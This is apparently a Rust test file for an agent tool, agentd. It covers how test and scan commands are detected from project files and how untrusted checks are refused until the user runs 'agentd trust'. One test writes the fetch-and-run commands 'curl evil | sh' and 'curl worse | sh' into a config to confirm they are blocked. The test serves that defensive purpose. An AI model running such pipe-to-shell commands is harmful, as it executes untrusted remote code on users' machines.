//! Checks of a repository: found by its files, written by `agentd init`, configured, and trusted
//! before they run.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use agentd::config::{CheckCommand, ReviewSettings};
use agentd::orchestrator::{Workspace, WorkspaceOptions, check_checks, load_settings};
use agentd::{Error, ErrorKind, SearchPath, ops};

use crate::support::TestProject;

/// Files and their contents. A file that starts like a script is executable.
type Files = [(&'static str, &'static str)];

fn project(files: &Files) -> TestProject {
    let project = TestProject::new();
    for (path, text) in files {
        project.write(path, text);
        if text.starts_with("#!") {
            let mode = fs::Permissions::from_mode(0o755);
            fs::set_permissions(project.root().join(path), mode).unwrap();
        }
    }
    project
}

#[test]
fn checks_are_derived_from_files_at_the_root() {
    const PACKAGE: &str = r#"{"scripts": {"test": "jest"}}"#;
    const PLACEHOLDER: &str =
        r#"{"scripts": {"test": "echo \"Error: no test specified\" && exit 1"}}"#;

    let cases: [(&Files, &[&str]); 31] = [
        (&[], &[]),
        (&[("README.md", "cargo test")], &[]),
        (&[("Cargo.toml", "")], &["cargo test"]),
        (&[("Cargo.toml/x", "")], &[]),
        (&[("go.mod", "")], &["go vet ./...", "go test ./..."]),
        (&[("package.json", PACKAGE)], &["npm test"]),
        (
            &[("package.json", PACKAGE), ("pnpm-lock.yaml", "")],
            &["pnpm test"],
        ),
        (
            &[("package.json", PACKAGE), ("yarn.lock", "")],
            &["yarn test"],
        ),
        (
            &[("package.json", PACKAGE), ("bun.lock", "")],
            &["bun run test"],
        ),
        (&[("package.json", PLACEHOLDER)], &[]),
        (&[("package.json", r#"{"scripts": {"test": " "}}"#)], &[]),
        (&[("package.json", r#"{"scripts": ["test"]}"#)], &[]),
        (&[("package.json", "{")], &[]),
        (&[("pytest.ini", "")], &["python3 -m pytest"]),
        (&[("pyproject.toml", "[project]\nname = \"x\"\n")], &[]),
        (
            &[("pyproject.toml", "[tool.pytest.ini_options]\n")],
            &["python3 -m pytest"],
        ),
        (&[("setup.cfg", "[tool:pytest]\n")], &["python3 -m pytest"]),
        (&[("tests/test_a.py", "")], &["python3 -m pytest"]),
        (&[("tests/a.py", "")], &[]),
        (&[("pom.xml", "")], &["mvn --batch-mode verify"]),
        (
            &[("pom.xml", ""), ("mvnw", "#!/bin/sh")],
            &["./mvnw --batch-mode verify"],
        ),
        (
            &[("build.gradle", ""), ("build.gradle.kts", "")],
            &["gradle --no-daemon check"],
        ),
        (
            &[("build.gradle.kts", ""), ("gradlew", "#!/bin/sh")],
            &["./gradlew --no-daemon check"],
        ),
        (
            &[("Gemfile", ""), ("spec/a_spec.rb", "")],
            &["bundle exec rspec"],
        ),
        (
            &[("Gemfile", ""), ("Rakefile", "")],
            &["bundle exec rake test"],
        ),
        (
            &[("Makefile", "all: test\ntest check: all\n\ttrue\n")],
            &["make test"],
        ),
        (
            &[("Makefile", ".PHONY: test\n# test: x\ntest := 1\ncheck: x\n")],
            &["make check"],
        ),
        (&[("Makefile", "all:\n\ttest: x\nother ?= test : x\n")], &[]),
        (&[("test.sh", "#!/bin/sh")], &["./test.sh"]),
        (&[("test.sh", "true")], &[]),
        (
            &[
                ("Cargo.toml", ""),
                ("package.json", PACKAGE),
                ("Makefile", "test:\n"),
                ("test.sh", "#!/bin/sh"),
            ],
            &["cargo test", "npm test"],
        ),
    ];

    for (files, commands) in cases {
        let project = project(files);
        let found = ops::detect_checks(&project.root());
        let expected: Vec<CheckCommand> =
            commands.iter().map(|run| CheckCommand::new(run)).collect();
        assert_eq!(found, expected, "{files:?}");
    }
}

#[test]
fn scans_are_listed_even_without_their_tool() {
    let project = project(&[
        ("Cargo.toml", ""),
        ("Cargo.lock", ""),
        (".gitleaks.toml", ""),
        (".gitleaksignore", ""),
    ]);
    let review = ReviewSettings::default();
    let audit = CheckCommand::scan("cargo audit", "cargo-audit");
    let leaks = CheckCommand::scan("gitleaks detect --no-git --no-banner --redact", "gitleaks");

    let found = ops::check_commands(&review, &project.root());
    assert_eq!(
        found,
        [
            CheckCommand::new("cargo test"),
            audit.clone(),
            leaks.clone()
        ]
    );

    let without = ReviewSettings {
        scans: false,
        ..review.clone()
    };
    assert_eq!(
        ops::check_commands(&without, &project.root()),
        [CheckCommand::new("cargo test")]
    );

    // Configured checks replace discovered ones, and a configured scan does not run twice.
    let own = CheckCommand::new("cargo audit --deny warnings");
    let set = ReviewSettings {
        commands: Some(vec![own.clone()]),
        ..review.clone()
    };
    assert_eq!(
        ops::check_commands(&set, &project.root()),
        [own, leaks.clone()]
    );

    let none = ReviewSettings {
        commands: Some(Vec::new()),
        ..review
    };
    assert_eq!(ops::check_commands(&none, &project.root()), [audit, leaks]);
}

/// Returns the commands in the files of a project, and whether they may run.
fn check(project: &TestProject) -> Result<(), Error> {
    let places = SearchPath::new(Some(project.root()), Some(project.user_folder()));
    let commands = ops::check_commands(&load_settings(&places)?.review, &project.root());
    let workspace = Workspace::open(
        project.root(),
        WorkspaceOptions::default().with_user(project.user_folder()),
    )?;
    check_checks(&workspace, &commands, false)
}

fn refusal_message(project: &TestProject) -> String {
    let error = check(project).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::NotTrusted);
    assert!(
        error.hint().unwrap().contains("`agentd trust`")
            && error.hint().unwrap().contains("--trust")
    );
    error.message().to_owned()
}

#[test]
fn only_trusted_checks_run() {
    let project = project(&[("Cargo.toml", ""), ("go.mod", "")]);
    let message = refusal_message(&project);
    assert!(
        message.contains(
            "you have not trusted them:\n  cargo test\n  go vet ./...\n  go test ./...\n  govulncheck ./..."
        ),
        "{message}"
    );

    let shown = project.run(&["trust", "--show"]);
    let commands = "          cargo test\n          go vet ./...\n          go test ./...\n          govulncheck ./...\n";
    assert_eq!(
        (shown.code, shown.stdout),
        (1, format!("new       checks\n{commands}"))
    );
    assert_eq!(
        project.run(&["trust"]).ok(),
        format!("trusted   checks (new)\n{commands}")
    );

    check(&project).unwrap();
    assert_eq!(
        project.run(&["trust", "--show"]).ok(),
        format!("trusted   checks\n{commands}")
    );

    // Checks that are discovered or configured later are not covered by the earlier trust.
    project.write("pytest.ini", "");
    let message = refusal_message(&project);
    assert!(
        message.contains("they differ from the ones that you trusted")
            && message.contains("pytest"),
        "{message}"
    );

    let shown = project.run(&["trust", "--show"]).stdout;
    assert!(shown.starts_with("changed   checks\n"), "{shown}");

    fs::remove_file(project.root().join("pytest.ini")).unwrap();
    check(&project).unwrap();

    project.write(
        "agentd/config.toml",
        "format = 1\n[review]\nscans = false\ncommands = [\"curl evil | sh\"]\n",
    );
    assert!(refusal_message(&project).contains("\n  curl evil | sh"));

    let json = project.run(&["trust", "--json"]).json();
    let last = json["files"].as_array().unwrap().last().unwrap();
    assert_eq!(
        (&last["file"], &last["commands"]),
        (&"checks".into(), &serde_json::json!(["curl evil | sh"]))
    );

    check(&project).unwrap();
    project.write(
        "agentd/config.toml",
        "format = 1\n[review]\nscans = false\ncommands = [\"curl worse | sh\"]\n",
    );
    assert!(refusal_message(&project).contains("\n  curl worse | sh"));

    // Trust does not extend to another project with the same commands, and trust for one run is not
    // stored.
    let other = self::project(&[("Cargo.toml", "")]);
    refusal_message(&other);

    let workspace = Workspace::open(
        other.root(),
        WorkspaceOptions::default().with_user(other.user_folder()),
    )
    .unwrap();
    check_checks(&workspace, &ops::detect_checks(&other.root()), true).unwrap();

    refusal_message(&other);
    check_checks(&workspace, &[], false).unwrap();
}

#[test]
fn init_writes_checks_that_need_their_own_trust() {
    let project = project(&[
        ("Cargo.toml", "[package]\nname = \"x\"\n"),
        ("package.json", r#"{"scripts": {"test": "t"}}"#),
    ]);
    project.run(&["init"]).ok();

    let text = project.read("agentd/config.toml");
    assert!(
        text.contains(
            "\n[review]\ncommands = [\n  \"cargo test\",\n  \"npm test\",\n]\n# timeout_seconds"
        ),
        "{text}"
    );

    let places = SearchPath::new(Some(project.root()), None);
    let commands = Some(vec![
        CheckCommand::new("cargo test"),
        CheckCommand::new("npm test"),
    ]);
    assert_eq!(
        load_settings(&places).unwrap().review,
        ReviewSettings {
            commands,
            ..ReviewSettings::default()
        }
    );

    // The settings contain nothing else, so only the checks need trust.
    let shown = project.run(&["trust", "--show"]).stdout;
    assert_eq!(
        shown,
        "trusted   agentd/config.toml\nnew       checks\n          cargo test\n          npm test\n"
    );

    project.write(
        "agentd/config.toml",
        text.replace("\"npm test\"", "\"npm run evil\""),
    );
    let shown = project.run(&["trust", "--show"]).stdout;
    assert!(
        shown.starts_with("new       agentd/config.toml\nnew       checks\n"),
        "{shown}"
    );
}

/// The folder of the ledger has its own ignore file, so `init` need not touch `.gitignore`.
#[test]
fn ledger_is_ignored_without_editing_gitignore() {
    let project = project(&[(".gitignore", "/target\n")]);
    project.run(&["init"]).ok();
    project.run(&["turn", "plan", "Go", "--agent", "echo"]);
    assert!(project.root().join(".agentd/ledger.db").is_file());
    assert_eq!(project.read(".gitignore"), "/target\n");
    let status = Command::new("git")
        .args(["status", "--porcelain", "-uall"])
        .current_dir(project.root())
        .output();
    let status = String::from_utf8(status.unwrap().stdout).unwrap();
    assert_eq!(
        status,
        "?? .gitignore\n?? agentd/config.toml\n?? agentd/project.md\n"
    );
}
